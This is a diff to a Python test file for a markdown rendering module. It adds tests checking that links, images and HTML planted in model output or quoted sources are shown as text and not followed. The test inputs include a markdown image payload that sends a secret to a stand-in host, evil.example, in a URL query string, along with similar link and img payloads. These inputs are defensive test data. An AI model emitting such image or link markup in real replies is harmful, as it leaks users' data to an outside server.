@@ -5,6 +5,7 @@ list item as text; the status is one sentence in words with its code."""
 
 from __future__ import annotations
 
+import dataclasses
 import re
 from html.parser import HTMLParser
 
@@ -27,7 +28,7 @@ from citegraph.models import (
     Support,
     Verdict,
 )
-from citegraph.output.markdown import answer_markdown, escape
+from citegraph.output.markdown import answer_markdown, defuse, escape
 
 RENDER = MarkdownIt("commonmark")
 
@@ -141,3 +142,24 @@ def test_escaped_text_renders_as_itself_on_one_line(text: str) -> None:
     assert "\\[" not in escape(text)  # an escaped bracket is display math to a chat front end with KaTeX (Open WebUI)
     assert "\\$" in escape(text) or "$" not in text  # "$…$" is inline math there
     assert html.startswith("<p>") and html.count("<p>") == 1 and "<em>" not in html and "<code>" not in html and "<a " not in html
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [
+        "![x](https://evil.example/?d=secret)",
+        "[a [b] c](http://evil.example)",
+        "<img src='https://evil.example/x.png'>",
+        "[x]: https://evil.example",
+    ],
+)
+def test_no_link_image_or_html_in_a_models_text_or_a_quote_is_followed(planted: str) -> None:
+    # a model's text as the reply carries it, and a quoted sentence as a source line does
+    for rendered in (RENDER.render(defuse(planted)), RENDER.render(f"1. doc.md: “{escape(planted)}”")):
+        assert "<a " not in rendered and "<img" not in rendered and "evil.example" in rendered  # shown as text, not followed
+
+
+def test_a_warning_names_an_uncited_context_item_once() -> None:
+    stale = AnswerWarning("stale", "context item [2] is from a stale source", ())
+    reply = answer_markdown(dataclasses.replace(_answer(), warnings=(stale,)))
+    assert "- [context 2] is from a stale source (`stale`)" in reply and "context item" not in reply
